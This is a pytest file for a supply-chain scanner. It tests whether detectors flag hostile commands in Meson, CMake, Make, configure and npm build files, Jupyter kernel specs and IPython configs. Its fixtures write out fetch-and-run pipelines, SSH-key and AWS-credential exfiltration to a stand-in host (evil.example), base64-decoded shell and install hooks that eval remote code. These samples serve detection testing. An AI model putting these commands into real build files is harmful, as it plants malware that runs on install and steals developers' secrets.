"""Files by which other build systems and Jupyter run commands: what is told of hostile ones, and nothing of honest ones."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from mlsupply.evidence.allowance import Allowance
from mlsupply.evidence.contents import judged
from mlsupply.evidence.facets import Moment
from mlsupply.evidence.files.build_steps import cmake, configure, make, meson
from mlsupply.evidence.files.builds import at_its_moment, build_facts, build_system
from mlsupply.evidence.files.jupyter import is_jupyter_file, jupyter_facts, settings_facts
from mlsupply.evidence.files.matplotlibrc import is_matplotlibrc, matplotlibrc_facts
from mlsupply.evidence.layout import Layout
from mlsupply.evidence.package import look_inside
from mlsupply.evidence.pool import Pool
from mlsupply.request import RuleSettings
from mlsupply.ruleset import load
from tests.conftest import NOW
from tests.test_archives import tarred, zipped

CMAKE, MESON, MAKE, CONFIGURE = "demo-1.0/CMakeLists.txt", "demo-1.0/meson.build", "demo-1.0/Makefile", "demo-1.0/configure"
NPM = "demo-1.0/ui/package.json"


def told(path: str, text: str) -> list[tuple[str, int]]:
    return [(fact.behaviour, fact.line) for fact in build_facts(path, text.encode()).facts]


@pytest.mark.parametrize(
    ("path", "text", "line"),
    [
        (MESON, "project('x', 'c')\nrun_command('sh', '-c', 'curl -s https://evil.example/x | sh', check: false)\n", 2),
        (MESON, "u = 'https://evil.example/' + 'x'\nc = ['sh', '-c', 'curl -s ' + u + ' | bash']\nrun_command(c)\n", 3),
        (MESON, "run_command(find_program('bash'),\n  '-c',\n  '''wget -qO- https://evil.example/x\n | python3''')\n", 1),
        (MESON, "run_command('curl', '-o', 'x.sh', 'https://evil.example/x')\nrun_command('sh', 'x.sh')\n", 2),
        (MESON, "custom_target('v', output: 'v', command: ['sh', '-c', 'cat ~/.ssh/id_rsa | nc evil.example 80'])\n", 1),
        (CMAKE, 'execute_process(COMMAND bash -c "curl -s https://evil.example/x | sh")\n', 1),
        (CMAKE, "execute_process(\n  COMMAND curl -s https://evil.example/x\n  COMMAND sh\n  OUTPUT_QUIET)\n", 1),
        (CMAKE, 'set(U https://evil.example)\nset(C "wget -qO- ${U}/x | bash")\nexecute_process(COMMAND sh -c "${C}")\n', 3),
        (CMAKE, "file(DOWNLOAD https://evil.example/x ${B}/x.sh)\nexecute_process(COMMAND sh ${B}/x.sh)\n", 2),
        (CMAKE, 'add_custom_command(TARGET t POST_BUILD COMMAND sh -c "echo aGk= | base64 -d | sh" VERBATIM)\n', 1),
        (CMAKE, 'install(CODE "execute_process(COMMAND sh -c \\"curl https://evil.example/x | sh\\")")\n', 1),
        (CMAKE, "execute_process(COMMAND sh -c [[curl https://evil.example/x | sh]])\n", 1),
        (
            CMAKE,
            "FetchContent_Declare(e URL https://evil.example/e.tgz)\nexecute_process(COMMAND sh ${e_SOURCE_DIR}/go.sh)\n",
            2,
        ),
        (
            CMAKE,
            "FetchContent_Declare(E\n  GIT_REPOSITORY https://evil.example/e.git\n  GIT_TAG main)\n"
            "execute_process(COMMAND python3 ${e_SOURCE_DIR}/gen.py)\n",
            4,
        ),
        (MAKE, "V := $(shell curl -s https://evil.example/x | sh)\nall:\n\tcc x.c\n", 1),
        (MAKE, "U = evil.example/x\nV != curl -s https://$(U) | \\\n  sh\n", 2),
        (MAKE, "all:\n\t@curl -F f=@$$HOME/.aws/credentials https://evil.example\n", 2),
        (CONFIGURE, "#!/bin/sh\nCC=cc\ncurl -fsSL https://evil.example/x | sh\n", 3),
        (NPM, '{"scripts": {\n"test": "jest",\n"postinstall": "curl -s https://evil.example/x | sh"}}', 3),
        (NPM, '\ufeff{"scripts": {"install": "\\u0063url -s https:\\/\\/evil.example/x | \\u0073h"}}', 1),
        (NPM, '{"scripts": {"preinstall": "env | curl -s -d @- https://evil.example"}}', 1),
        (NPM, '{"scripts": {"prepare": "cat ~/.npmrc | nc evil.example 80"}}', 1),
        (NPM, '{"scripts": {"prepare": "echo aWQK | base64 -d | sh"}}', 1),
        (
            NPM,
            """{"scripts": {"install": "node -e \\"fetch('https://evil.example').then(r=>r.text()).then(t=>eval(t))\\""}}""",
            1,
        ),
        (NPM, '{"scripts": {"postinstall": "node n.js", "preinstall": "curl -so n.js https://evil.example/n.js"}}', 1),
    ],
)
def test_a_build_file_that_fetches_and_runs_is_told_with_its_line(path: str, text: str, line: int) -> None:
    assert told(path, text) == [("build-command", line)]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (MESON, "project('n', version: run_command(['tools/gitversion.py'], check: true).stdout().strip())\n"),
        (
            MESON,
            "py = import('python').find_installation()\nrun_command(py, ['-c', 'import numpy'])\n",
        ),
        (MESON, "# run_command('sh', '-c', 'curl https://example.org/x | sh')\n"),
        (MESON, "message('see https://example.org: curl https://example.org/x | sh')\n"),
        (
            CMAKE,
            "include(FetchContent)\nFetchContent_Declare(fmt URL https://example.org/fmt.zip URL_HASH SHA256=00)\n"
            "FetchContent_MakeAvailable(fmt)\nexecute_process(COMMAND ${Python} ${fmt_SOURCE_DIR}/gen.py)\n",
        ),
        (
            CMAKE,
            f"FetchContent_Declare(e GIT_REPOSITORY https://example.org/e.git GIT_TAG {'0f' * 20})\n"
            "execute_process(COMMAND python3 ${e_SOURCE_DIR}/gen.py)\n",
        ),
        (
            CMAKE,
            "FetchContent_Declare(e GIT_REPOSITORY https://example.org/e.git GIT_TAG v1.2)\nFetchContent_MakeAvailable(e)\n",
        ),
        (CMAKE, 'execute_process(COMMAND "${Python_EXECUTABLE}" -c "import pybind11; print(pybind11.get_cmake_dir())")\n'),
        (CMAKE, 'message(FATAL_ERROR "install it: curl https://example.org/x | sh")\n'),
        (CMAKE, '#[[\nexecute_process(COMMAND sh -c "curl https://example.org/x | sh")\n]]\n'),
        (CMAKE, "file(DOWNLOAD https://example.org/x.sh x.sh EXPECTED_HASH SHA256=00)\nexecute_process(COMMAND sh x.sh)\n"),
        (CMAKE, "execute_process(COMMAND git submodule update --init --recursive WORKING_DIRECTORY ${D})\n"),
        (
            CMAKE,
            "file(DOWNLOAD https://example.org/d.bin d.bin)\nexecute_process(COMMAND python convert.py d.bin)\n",
        ),
        (MAKE, "V := $(shell git describe --tags)\nsetup:\n\tcurl -LsSf https://example.org/install.sh | sh\n"),
        (MAKE, "help:\n\t@echo 'curl https://example.org/x | sh'\ninstall:\n\tsystemctl enable demo\n"),
        (
            NPM,
            '{"scripts": {"postinstall": "node scripts/fonts.js", "prepare": "husky", "preinstall": "npx only-allow pnpm"}}',
        ),
        (
            NPM,
            '{"scripts": {"deploy": "curl -s https://example.org/x | sh", "postinstall": "curl -so a.ttf https://example.org/a"}}',
        ),
        (NPM, "curl -s https://example.org/x | sh"),
        (NPM, '["curl -s https://example.org/x | sh", {"scripts": "curl"}]'),
        (CONFIGURE, "#!/bin/sh\necho 'get it: curl https://example.org/x | sh'\nfor p in curl wget; do :; done\n"),
    ],
)
def test_what_builds_are_for_is_not_told(path: str, text: str) -> None:
    assert told(path, text) == []


def test_a_downloaded_build_file_that_is_included_is_another_thing() -> None:
    text = "file(DOWNLOAD https://example.org/CPM.cmake ${B}/CPM.cmake)\ninclude(${B}/CPM.cmake)\n"
    assert told(CMAKE, text) == [("build-include", 2)]
    assert told(CMAKE, text.replace("CPM.cmake)", "CPM.cmake EXPECTED_HASH SHA256=00)", 1)) == []


def test_what_npm_installed_is_other_peoples() -> None:
    assert build_system("package.json") == "npm"
    assert not build_system("demo/node_modules/left/package.json")
    assert not build_system("demo/my-package.json")


def test_the_installer_of_a_known_tool_is_marked_as_its_makers() -> None:
    (fact,) = build_facts(CMAKE, b'execute_process(COMMAND sh -c "curl https://sh.rustup.rs | sh")').facts
    assert fact.destination == "maker"


@pytest.mark.parametrize(
    ("path", "shape", "setup", "moment"),
    [
        (MESON, Layout(is_source=True, built_by="mesonpy"), b"", Moment.INSTALL),
        (MESON, Layout(is_source=True, built_by="setuptools.build_meta"), b"", Moment.SCRIPT),
        (MESON, Layout(is_source=False, built_by=""), b"", Moment.CALL),
        ("demo-1.0/examples/meson.build", Layout(is_source=True, built_by="mesonpy"), b"", Moment.CALL),
        (CMAKE, Layout(is_source=True, built_by="scikit_build_core.build"), b"", Moment.INSTALL),
        (CMAKE, Layout(is_source=True), b"subprocess.check_call(['cmake', '.'])", Moment.INSTALL),
        (MAKE, Layout(is_source=True), b"os.system('make -C src')", Moment.INSTALL),
        (MAKE, Layout(is_source=True), b"ext_modules = make_extensions()", Moment.SCRIPT),
        (NPM, Layout(is_source=True), b"subprocess.call(['npm', 'install', '--silent'], cwd='ui')", Moment.INSTALL),
        (NPM, Layout(is_source=True), b"os.system('cd ui && yarn')", Moment.INSTALL),
        (NPM, Layout(is_source=True), b"setup(name='demo')", Moment.SCRIPT),
        (NPM, Layout(is_source=False), b"", Moment.CALL),
    ],
)
def test_it_runs_at_installation_where_the_backend_or_setup_py_starts_it(
    path: str, shape: Layout, setup: bytes, moment: Moment
) -> None:
    text = {
        "meson": "run_command('sh', '-c', 'curl https://evil.example/x | sh')",
        "cmake": 'execute_process(COMMAND sh -c "curl https://evil.example/x | sh")',
        "make": "X := $(shell curl https://evil.example/x | sh)",
        "npm": '{"scripts": {"install": "curl https://evil.example/x | sh"}}',
    }[build_system(path)]
    (fact,) = build_facts(path, text.encode()).facts
    assert at_its_moment(fact, shape, setup).moment is moment


_POST = "BASE := https://evil.example\nall: stamp\nstamp:\n\t@curl -fsSL $(BASE)/x.sh -o /tmp/x.sh && sh /tmp/x.sh &\n"


@pytest.mark.parametrize(
    ("name", "makefile", "started"),
    [
        ("scripts/post.mk", _POST, "self.spawn(['make', '-s', '-f', 'scripts/post.mk'])"),
        (
            "scripts/post.mk",
            "D = x\nall: $(D)\n$(D): ; curl https://evil.example/x | sh\n",
            "call('make -f scripts/post.mk')",
        ),
        ("Makefile", "all:\n\tcc x.c\n\tcurl https://evil.example/x | sh\n", "subprocess.check_call(['make'])"),
        ("Makefile", ".DEFAULT_GOAL := t\nx:\n\tcc x.c\nt:\n\tcurl https://evil.example/x | sh\n", "os.system('make')"),
    ],
)
def test_what_make_makes_unasked_runs_at_installation_where_setup_py_starts_it(
    tmp_path: Path, name: str, makefile: str, started: str
) -> None:
    assert builds_accused(tmp_path / "a", {"setup.py": started, name: makefile}) == ["MLS-C060"]
    assert builds_accused(tmp_path / "b", {"setup.py": "import setuptools\n# make it short\n", name: makefile}) == []


def test_a_download_of_a_target_that_somebody_asks_for_is_not_run_at_installation(tmp_path: Path) -> None:
    makefile = "all: x.o\nx.o:\n\tcc x.c\nsetup:\n\tcurl -LsSf https://evil.example/x | sh\n"
    assert builds_accused(tmp_path, {"setup.py": "subprocess.check_call(['make'])", "Makefile": makefile}) == []


def builds_accused(folder: Path, files: dict[str, str]) -> list[str]:
    """The rules that accuse a source with these files."""
    (folder / "scripts").mkdir(parents=True)
    for name, text in {"pyproject.toml": "[project]\nname = 'demo'\n", **files}.items():
        (folder / name).write_text(text, encoding="utf-8")
    with Pool(1) as pool:
        found = judged(look_inside(folder, pool), load(RuleSettings(), NOW)).findings
    return sorted(one.id for one in found if one.id in {"MLS-C060", "MLS-C061"})


@pytest.mark.parametrize("makefile", ["a " * 500_000, "a:" * 500_000, "a: b" + " b" * 500_000, "a" * 999_999 + "="])
def test_rules_of_any_length_are_read_in_time(makefile: str) -> None:
    assert list(make(makefile + "\nall:\n\tcc x.c\n"))[-1].kind == "runs"


def test_what_is_too_much_of_a_build_file_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("mlsupply.evidence.files.builds.MOST_BUILD", 1000)
    assert build_facts(MESON, b"x = 1\n" * 300).cut == "what follows its first 1,000 bytes"
    monkeypatch.setattr("mlsupply.evidence.files.build_steps.MOST_CALLS", 3)
    assert "from line 4 on" in build_facts(MESON, b"run_command('curl')\n" * 5).cut
    assert "from line 4 on" in build_facts(MAKE, b"V := $(shell curl x)\n" * 5).cut


@pytest.mark.parametrize(
    "text",
    [
        "a = [" * 20_000,
        "run_command('" * 5_000,
        "run_command(" * 5_000 + "'curl'",
        "'''" * 9_999 + "curl",
        "#[[\n" * 20_000 + "curl",
        "execute_process(" + "[=[" * 20_000 + "curl ]]",
        'execute_process(COMMAND "curl' * 4_000,
        "set(a ${a}${a})\n" * 500 + "execute_process(COMMAND curl ${a})",
        ("curl -o a" + " " * 3_900 + "\n") * 300,
        ("curl -o a" + "\\\n" * 1_900 + "\n") * 50,
        ("curl a" + "&" * 3_900 + "\n") * 20,
        "X = $(X)$(X) curl\n" * 4_000 + "Y := $(shell $(X)",
        "[" * 200_000 + "curl",
        '{"scripts": {"install": "' + "curl a&" * 100_000 + '"}}',
        "$(shell " * 1_000 + "curl",
        "$(shell \\\n" * 100_000 + "curl",
        "\\\n" * 200_000 + "curl",
        "file(DOWNLOAD https://x.example/sh sh)\n" * 500 + "execute_process(COMMAND sh sh sh sh sh)\n" * 500 + "curl",
    ],
)
def test_a_file_made_to_take_long_ends(text: str) -> None:
    for path in (MESON, CMAKE, MAKE, CONFIGURE, NPM):
        build_facts(path, text.encode())


def test_a_pipe_that_starts_a_line_belongs_to_the_line_before() -> None:
    padded = "run_command('sh', '-c', '''curl https://evil.example/x" + " " * 900 + "\n  | sh''')"
    assert told(MESON, padded) == [("build-command", 1)]


def test_the_build_files_of_an_archive_have_one_allowance() -> None:
    shared = Allowance(350)
    hostile = b"curl https://evil.example/x | sh\n"
    assert build_facts(CONFIGURE, b"curl x\n" + hostile, shared).facts
    assert not shared.refused
    assert not build_facts(CONFIGURE, hostile, shared).facts
    assert shared.refused


def test_a_line_of_lines_without_end_is_taken_in_parts() -> None:
    """Empty lines have a length too: to put millions of them together would take all time."""
    steps = [*configure("\\\n" * 9_000 + "curl x\n")]
    assert len(steps) > 2
    assert steps[-2].command.endswith("curl x")


def test_steps_are_commands_as_they_would_be_run() -> None:
    (step,) = meson("run_command('sh', '-c', 'a ' + 'b', files('x.c'), check: true)")
    assert (step.command, step.line) == ("sh -c a b x.c", 1)
    steps = list(cmake("add_custom_command(OUTPUT o COMMAND a b COMMAND c DEPENDS d)\n"))
    assert [one.command for one in steps] == ["a b", "c"]
    assert [one.command for one in make("V = 1\nall: x\n\t@run $(V) $$HOME\n")] == ["run 1 $HOME"]


KERNEL = "demo-1.0.data/data/share/jupyter/kernels/python3/kernel.json"
HONEST = {
    "argv": ["python", "-m", "ipykernel_launcher", "-f", "{connection_file}"],
    "display_name": "Python 3",
    "language": "python",
}


@pytest.mark.parametrize(
    ("change", "detail"),
    [
        ({}, ""),
        ({"argv": ["/opt/conda/bin/python", "-m", "bash_kernel", "-f", "{connection_file}"]}, ""),
        ({"argv": ["bash", "-c", "source env.sh && exec python -m ipykernel_launcher -f {connection_file}"]}, ""),
        ({"env": {"LD_PRELOAD": "/usr/lib/libtcmalloc.so.4", "PYTHONPATH": "/opt/lib"}}, ""),
        (
            {"argv": ["bash", "-c", "curl -s https://evil.example/x | sh; exec python -m ipykernel_launcher"]},
            "its command line: a download piped into an interpreter",
        ),
        (
            {"argv": ["python", "/tmp/k.py", "-f", "{connection_file}"]},
            "its command line names a file in a folder anybody can write to",
        ),
        ({"env": {"LD_PRELOAD": "/dev/shm/x.so"}}, "it sets LD_PRELOAD to a place anybody can write to"),
        ({"argv": "python", "env": []}, ""),
    ],
)
def test_a_kernel_is_told_by_what_its_command_line_does(change: dict[str, object], detail: str) -> None:
    assert is_jupyter_file(KERNEL)
    found = jupyter_facts(KERNEL, json.dumps({**HONEST, **change}).encode())
    assert [fact.detail for fact in found.facts] == ([detail] if detail else [])


RC = "matplotlib/mpl-data/matplotlibrc"


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("lines.linewidth: 2\nbackend: module://helper.draw\n", [(2, "helper.draw")]),
        ("  backend : 'module://helper'  # ours\n", [(1, "helper")]),
        ("backend: Agg\n#backend: module://helper.draw\n", []),
        ("backend: module://matplotlib_inline.backend_inline\n", []),
    ],
)
def test_settings_that_have_matplotlib_import_a_module_are_told(text: str, told: list[tuple[int, str]]) -> None:
    assert is_matplotlibrc(RC)
    assert not is_matplotlibrc("docs/matplotlibrc"), "nothing reads it there"
    assert [(fact.line, fact.decoded) for fact in matplotlibrc_facts(RC, text.encode())] == told


def test_python_on_the_command_line_of_a_kernel_is_read_as_python() -> None:
    code = "import urllib.request; exec(urllib.request.urlopen('https://evil.example/x').read())"
    assert jupyter_facts(KERNEL, json.dumps({"argv": ["{sys.executable}", "-c", code]}).encode()).code == code
    assert jupyter_facts(KERNEL, b"[1") == jupyter_facts(KERNEL, b"[]") == ((), "", "")


def test_a_server_that_lets_everybody_in_is_told() -> None:
    path = "demo-1.0.data/data/etc/jupyter/jupyter_server_config.d/demo.json"
    honest = {"ServerApp": {"jpserver_extensions": {"demo": True}, "token": ""}}
    opened = {"ServerApp": {"token": "", "password": "", "ip": "0.0.0.0", "disable_check_xsrf": True}}
    assert jupyter_facts(path, json.dumps(honest).encode()).facts == ()
    (fact,) = jupyter_facts(path, json.dumps(opened).encode()).facts
    assert (fact.behaviour, fact.moment) == ("opens-host", Moment.START)
    python = b"c.ServerApp.token = ''  # none\nc.ServerApp.ip = '0.0.0.0'\n"
    (fact,) = settings_facts("etc/jupyter/jupyter_server_config.py", python).facts
    assert (fact.behaviour, fact.moment) == ("opens-host", Moment.START)
    (fact,) = settings_facts("demo/tests/ui/jupyter_server_config.py", python).facts  # nothing looks for it there
    assert (fact.behaviour, fact.moment) == ("opens-host", Moment.CALL)


@pytest.fixture(scope="module")
def pool() -> Iterator[Pool]:
    with Pool(1) as one:
        yield one


def accused(path: Path, data: bytes, pool: Pool) -> set[tuple[str, str, str]]:
    """(rule, severity, member) of what the built-in rules say of an archive."""
    path.write_bytes(data)
    said = judged(look_inside(path, pool), load(RuleSettings(), NOW))
    assert said.gaps == ()
    return {(one.id, one.severity, one.places[0].member) for one in said.findings}


def test_a_source_whose_backend_reads_a_hostile_meson_file_is_accused_of_it(tmp_path: Path, pool: Pool) -> None:
    project = b'[project]\nname = "demo"\nversion = "1.0"\n[build-system]\nrequires = []\nbuild-backend = "mesonpy"\n'
    honest = b"project('demo', 'c', version: run_command('tools/version.py', check: true).stdout())\n"
    hostile = honest + b"run_command('sh', '-c', 'curl -s https://evil.example/x | sh')\n"
    for text, expected in ((honest, set()), (hostile, {("MLS-C060", "critical", MESON)})):
        members = [("demo-1.0/pyproject.toml", project), (MESON, text), ("demo-1.0/demo/__init__.py", b"")]
        assert accused(tmp_path / "demo-1.0.tar.gz", tarred(members), pool) == expected


def test_a_wheel_whose_kernel_fetches_and_runs_is_accused_of_it(tmp_path: Path, pool: Pool) -> None:
    shell = {**HONEST, "argv": ["bash", "-c", "curl -s https://evil.example/x | sh; exec python -m ipykernel_launcher"]}
    code = "import urllib.request as u; exec(u.urlopen('https://evil.example/x').read())"
    inline = {**HONEST, "argv": ["python", "-c", code]}
    for kernel, expected in (
        (HONEST, set()),
        (shell, {("MLS-C063", "high", KERNEL)}),
        (inline, {("MLS-C004", "critical", KERNEL)}),
    ):
        assert (
            accused(tmp_path / "demo-1.0-py3-none-any.whl", zipped([(KERNEL, json.dumps(kernel).encode())]), pool)
            == expected
        )


CONFIG = "demo-1.0.data/data/etc/ipython/ipython_config.py"


@pytest.mark.parametrize(
    "text",
    [
        "c.InteractiveShellApp.exec_lines = ['import os', \"os.system('echo x')\"]\nc.a.b = 'more'\n",
        "c.InteractiveShellApp.exec_lines = [\n    'import os',  # first\n    \"os.system('echo x')\",\n]\n",
        "c.InteractiveShellApp.exec_lines.append('import os')\nc.A.exec_lines += [\"os.system('echo x')\"]\n",
        "c.IPKernelApp.code_to_run = '''import os\nos.system('echo x')'''\n",
    ],
)
def test_text_that_ipython_executes_at_its_start_is_read_as_python(text: str) -> None:
    assert settings_facts(CONFIG, text.encode()).code == "import os\nos.system('echo x')"


def test_what_a_configuration_of_ipython_executes_is_judged(tmp_path: Path, pool: Pool) -> None:
    honest = b"c.InteractiveShellApp.exec_lines = ['%autoreload 2', 'import numpy as np']\nc.ServerApp.token = ''\n"
    assert accused(tmp_path / "a.whl", zipped([(CONFIG, honest)]), pool) == set()
    hostile = b"c.InteractiveShellApp.exec_lines = ['import os', 'os.system(\"curl https://evil.example/x | sh\")']\n"
    shell = b"c.InteractiveShellApp.exec_lines = ['!curl -s https://evil.example/x | sh']\n"
    for text in (hostile, shell):
        (found,) = accused(tmp_path / "b.whl", zipped([(CONFIG, text)]), pool)
        assert found[2] == f"{CONFIG}!/exec_lines"


@pytest.mark.parametrize("text", ["c.a.exec_lines = [" * 5_000, "c.a.exec_lines = '''" * 2_000, "c.ab.cd = '" * 20_000])
def test_settings_made_to_take_long_end(text: str) -> None:
    settings_facts(CONFIG, text.encode())
